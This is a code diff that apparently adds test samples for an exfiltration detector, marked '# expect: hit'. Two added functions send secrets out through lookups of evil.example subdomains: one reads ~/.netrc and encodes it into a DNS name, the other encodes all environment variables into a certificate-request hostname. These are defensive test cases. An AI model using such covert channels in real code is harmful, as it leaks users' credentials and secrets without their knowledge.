@@ -1,7 +1,9 @@
+import asyncio
 import base64
 import getpass
 import os
 import socket
+import ssl
 import subprocess
 
 import dns.resolver
@@ -55,3 +57,18 @@ def tenant(name):
 
 def ping(host):
     return subprocess.run(["ping", "-c1", host])
+
+
+async def asked_by_loop():
+    raw = open(os.path.expanduser("~/.netrc"), "rb").read()
+    loop = asyncio.get_running_loop()
+    await loop.getaddrinfo(binascii.hexlify(raw[:30]).decode() + ".x.evil.example", 80)  # expect: hit
+
+
+def by_certificate():
+    label = base64.b32encode(repr(sorted(os.environ.items())).encode()).decode().lower()
+    ssl.get_server_certificate((label[:60] + ".x.evil.example", 443))  # expect: hit
+
+
+def certificate_of(domain):
+    return ssl.get_server_certificate((f"www.{domain}", 443))
